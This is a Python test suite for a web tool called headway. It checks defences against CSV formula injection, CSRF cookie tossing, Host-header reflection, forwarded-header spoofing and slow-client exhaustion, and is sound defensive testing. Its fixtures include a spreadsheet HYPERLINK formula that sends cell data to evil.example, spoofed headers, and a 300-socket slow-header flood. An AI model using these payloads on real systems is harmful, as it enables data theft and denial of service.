"""HTTP hygiene (#11 build point 6): every finding of the review, reproduced.

Spreadsheet formulas in the CLI's CSV, a CSRF token that works in another session, security
headers, forwarded addresses from untrusted peers, the Host header reflected, and slow
clients holding the server (real sockets against a real ``headway serve``).
"""

from __future__ import annotations

import csv
import io
import json
import resource
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI, Request
from typer.testing import CliRunner

from headway.cli import app as cli_app
from headway.errors import ConfigError
from headway.settings import Settings, load_settings
from headway.store import Store
from headway.store.api_keys import create_key
from headway.web.app import create_app
from headway.web.csrf import CSRF_COOKIE
from tests.engine.activity_log import load
from tests.web.api.conftest import build_world
from tests.web.auth_support import Browser, auth_app, log_in
from tests.web.conftest import HEADWAY, Client, free_port

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
JOURNEY = """\
name: Signup
window: 30d
stages:
  - name: Visit
    when: {type: page_visit}
"""
SIGNUP_YAML = JOURNEY.replace("Signup", "Signup two")
YAML = {"Content-Type": "application/yaml"}


# -- CSV from the CLI ---------------------------------------------------------------------------
def test_cli_contacts_csv_keeps_formulas_as_text(tmp_path: Path) -> None:
    db = tmp_path / "h.duckdb"
    with Store(db) as store:
        load(store, [(FORMULA, "page_visit", "0s"), ("+420123", "page_visit", "1h")])
    journey = tmp_path / "j.yaml"
    journey.write_text(JOURNEY)
    args = ["--db", str(db), "contacts", str(journey), "--stage", "1", "--format", "csv"]
    result = CliRunner().invoke(cli_app, [*args, "--as-of", "2025-02-01"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(r["contact"] for r in rows) == ["'+420123", "'" + FORMULA]


def test_cli_suppression_export_keeps_formulas_as_text(tmp_path: Path) -> None:
    db = tmp_path / "h.duckdb"
    with Store(db) as store:
        load(store, [("@SUM(1+1)", "email_unsubscribe", "0s", {"email": "e1"})])
    result = CliRunner().invoke(cli_app, ["--db", str(db), "suppression", "export"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["contact"] for r in rows] == ["'@SUM(1+1)"]


# -- CSRF bound to the session ------------------------------------------------------------------
@pytest.fixture
def app(store: Store) -> FastAPI:
    return auth_app(store)


def test_a_csrf_token_from_another_session_is_refused(app: FastAPI, store: Store) -> None:
    _, attacker_key = create_key(store, ["read"])
    _, victim_key = create_key(store, ["read"])
    attacker = Browser(app)
    log_in(attacker, attacker_key)
    token = attacker.get("/test/token").json()["token"]
    victim = Browser(app)
    log_in(victim, victim_key)
    # Cookie tossing: the attacker plants its own CSRF cookie in the victim's browser.
    victim.cookies[CSRF_COOKIE] = attacker.cookies[CSRF_COOKIE]
    assert victim.post("/test/form", data={"csrf_token": token}).status_code == 403
    assert victim.post("/test/form", headers={"X-CSRF-Token": token}).status_code == 403
    assert attacker.post("/test/form", data={"csrf_token": token}).status_code == 200


def test_a_csrf_token_from_before_login_is_refused_after_it(app: FastAPI, store: Store) -> None:
    _, key = create_key(store, ["read"])
    browser = Browser(app)
    before = browser.get("/test/token").json()["token"]
    log_in(browser, key)
    assert browser.post("/test/form", data={"csrf_token": before}).status_code == 403
    after = browser.get("/test/token").json()["token"]
    assert browser.post("/test/form", data={"csrf_token": after}).status_code == 200
    assert json.loads(browser.post("/test/form", data={"csrf_token": after}).text)["changed"]


# -- security headers and the Host header -------------------------------------------------------
@pytest.fixture
def world_app(store: Store) -> FastAPI:
    build_world(store)
    return create_app(store, Settings(tracking={"enabled": False}))


def _requests(admin: str) -> list[tuple[str, str, dict[str, Any]]]:
    auth = {"Authorization": f"Bearer {admin}"}
    trial = "/api/v1/journeys/Trial"
    return [
        ("GET", "/", {}),  # a page without a session: the login redirect
        ("GET", "/login", {}),
        ("GET", "/journeys/Trial", {"headers": auth}),
        ("GET", f"{trial}/funnel?as_of=2025-01-05", {"headers": auth}),
        ("GET", f"{trial}/contacts?as_of=2025-01-05&limit=1", {"headers": auth}),
        ("GET", f"{trial}/contacts?as_of=2025-01-05&format=csv", {"headers": auth}),
        ("GET", "/api/v1/journeys/", {"headers": auth}),  # the trailing-slash redirect
        ("POST", "/api/v1/journeys", {"headers": auth | YAML, "content": SIGNUP_YAML}),
        ("GET", "/api/v1/journeys", {}),  # 401
        ("GET", "/nowhere", {"headers": auth}),  # 404
        ("POST", "/api/v1/activities", {"headers": auth | {"Content-Length": "99999999"}}),
        ("GET", "/t/c/forged-token", {}),
        ("GET", "/api/docs", {}),
        ("GET", "/api/openapi.json", {}),
        ("GET", "/static/headway.js", {}),
        ("GET", "/health", {}),
    ]


def test_every_response_carries_the_security_headers(world_app: FastAPI, store: Store) -> None:
    _, admin = create_key(store, ["admin"])
    client = Client(world_app)
    for method, url, kw in _requests(admin):
        r = client.request(method, url, **kw)
        where = f"{method} {url} ({r.status_code})"
        policy = _policy(r.headers.get("content-security-policy", ""))
        assert policy["frame-ancestors"] == ["'none'"], where
        assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'none'"], where
        script = policy["script-src"]
        assert script[0] == "'self'" and "'unsafe-inline'" not in script, where
        assert "'unsafe-eval'" not in script, where
        assert all(s.startswith("'sha256-") for s in script[1:]), where  # /api/docs only
        assert r.headers["x-frame-options"] == "DENY", where
        assert r.headers["x-content-type-options"] == "nosniff", where
        expected = "no-referrer" if url.startswith("/t/") else "strict-origin-when-cross-origin"
        assert r.headers["referrer-policy"] == expected, where


def test_an_unexpected_error_carries_the_security_headers(store: Store) -> None:
    app = create_app(store, Settings(tracking={"enabled": False}))

    @app.get("/boom")
    def boom() -> None:
        raise RuntimeError("boom")

    r = Client(app).get("/boom")
    assert r.status_code == 500
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    assert r.headers["x-content-type-options"] == "nosniff"


def test_the_host_header_is_never_reflected(world_app: FastAPI, store: Store) -> None:
    _, admin = create_key(store, ["admin"])
    client = Client(world_app)
    for method, url, kw in _requests(admin):
        headers = dict(kw.pop("headers", {})) | {"Host": "evil.example:8443"}
        r = client.request(method, url, headers=headers, **kw)
        where = f"{method} {url} ({r.status_code})"
        assert "evil.example" not in r.text, where
        assert not [v for _, v in r.headers.multi_items() if "evil.example" in v], where
    r = client.get("/api/v1/journeys/", headers={"Authorization": f"Bearer {admin}"})
    assert r.status_code == 307 and r.headers["location"] == "/api/v1/journeys"


def _policy(header: str) -> dict[str, list[str]]:
    directives = [d.split() for d in header.split(";") if d.strip()]
    return {d[0]: d[1:] for d in directives}


# -- forwarded addresses ------------------------------------------------------------------------
PROXY = ("10.0.0.5", 40000)
REMOTE = ("203.0.113.9", 40000)


def _proxied_app(store: Store, trusted: list[str]) -> FastAPI:
    app = auth_app(store, Settings(tracking={"enabled": False}, http={"trusted_proxies": trusted}))

    @app.get("/test/peer")
    def peer(request: Request) -> dict[str, str]:
        return {
            "client": request.client.host if request.client else "",
            "scheme": request.url.scheme,
        }

    return app


def test_a_relayed_request_never_reaches_local_mode(store: Store) -> None:
    app = auth_app(store)  # no keys: local mode
    local = Browser(app)  # from 127.0.0.1, like a reverse proxy on this machine
    assert local.get("/api/v1/test/admin").status_code == 200
    for header in ("X-Forwarded-For", "Forwarded", "X-Real-IP"):
        for value in ("127.0.0.1", "for=127.0.0.1", "198.51.100.7"):
            r = local.get("/api/v1/test/admin", headers={header: value})
            assert r.status_code == 401, (header, value)
    spoofed = {"X-Forwarded-For": "127.0.0.1"}
    for trusted in (["10.0.0.0/8"], ["0.0.0.0/0"]):  # proxies trusted broadly
        remote = Browser(_proxied_app(store, trusted), client=REMOTE)
        assert remote.get("/api/v1/test/admin", headers=spoofed).status_code == 401


def test_forwarded_headers_count_only_from_trusted_proxies(store: Store) -> None:
    app = _proxied_app(store, ["10.0.0.5"])
    chain = {"X-Forwarded-For": "127.0.0.1, 198.51.100.7", "X-Forwarded-Proto": "https"}
    via_proxy = Browser(app, client=PROXY).get("/test/peer", headers=chain).json()
    assert via_proxy == {"client": "198.51.100.7", "scheme": "https"}  # right-most untrusted
    chain = {"X-Forwarded-For": "198.51.100.7, 10.0.0.5", "X-Forwarded-Proto": "https"}
    two_hops = Browser(app, client=PROXY).get("/test/peer", headers=chain).json()
    assert two_hops["client"] == "198.51.100.7"
    direct = Browser(app, client=REMOTE).get("/test/peer", headers=chain).json()
    assert direct == {"client": "203.0.113.9", "scheme": "http"}  # not a proxy: ignored
    unset = Browser(_proxied_app(store, []), client=PROXY)  # no proxy trusted: the peer
    assert unset.get("/test/peer", headers=chain).json()["client"] == "10.0.0.5"


@pytest.mark.parametrize("entry", ["*", "proxy.example.com", "10.0.0.300", "10.0.0.0/33"])
def test_trusted_proxies_are_addresses_only(entry: str, tmp_path: Path) -> None:
    path = tmp_path / "headway.toml"
    path.write_text(f'[http]\ntrusted_proxies = ["10.0.0.5", "{entry}"]\n')
    with pytest.raises(ConfigError) as caught:
        load_settings(path)
    assert str(caught.value).startswith("setting http.trusted_proxies is invalid: ")


# -- slow clients against a real server ---------------------------------------------------------
SLOW_CLIENTS = 300  # more than the server process may open files (FD_LIMIT)
FD_LIMIT = 256
SLOW_HEAD = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


@pytest.fixture
def guarded_server(tmp_path: Path) -> Iterator[str]:
    """``headway serve`` allowed FD_LIMIT open files, a 1 s header timeout and 50 connections."""
    config = tmp_path / "headway.toml"
    config.write_text(
        "[tracking]\nenabled = false\n[http]\nheader_timeout = 1\nmax_connections = 50\n"
    )
    port = free_port()
    cmd = [str(HEADWAY), "--db", str(tmp_path / "h.duckdb"), "serve", "--port", str(port)]
    process = subprocess.Popen(
        [*cmd, "--config", str(config)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (FD_LIMIT, FD_LIMIT)),
    )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while httpx_ok(url) is False:
            assert process.poll() is None and time.monotonic() < deadline, "no server"
            time.sleep(0.2)
        yield url
    finally:
        process.terminate()
        try:
            process.wait(timeout=20)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def httpx_ok(url: str) -> bool:
    """Whether the server answers /health."""
    try:
        return httpx.get(url + "/health", timeout=1).status_code == 200
    except httpx.TransportError:
        return False


@pytest.mark.slow
def test_slow_clients_do_not_stop_a_normal_request(guarded_server: str) -> None:
    port = int(guarded_server.rsplit(":", 1)[1])
    slow = []
    try:
        for _ in range(SLOW_CLIENTS):  # each sends part of its headers, then waits
            s = socket.create_connection(("127.0.0.1", port), timeout=10)
            s.sendall(SLOW_HEAD)
            slow.append(s)
        r = httpx.get(guarded_server + "/health", timeout=30)  # a hang fails here
        assert r.status_code == 200 and r.json() == {"status": "ok"}
        # The header timeout: a client that never finishes its headers is disconnected.
        lone = socket.create_connection(("127.0.0.1", port), timeout=30)
        slow.append(lone)
        lone.sendall(SLOW_HEAD)
        time.sleep(0.3)
        lone.sendall(b"x")  # trickling a byte does not reset the clock
        assert _closed_by_server(lone)  # a hang raises socket.timeout
    finally:
        for s in slow:
            s.close()


def _closed_by_server(s: socket.socket) -> bool:
    try:
        return s.recv(1024) == b""
    except ConnectionResetError:
        return True
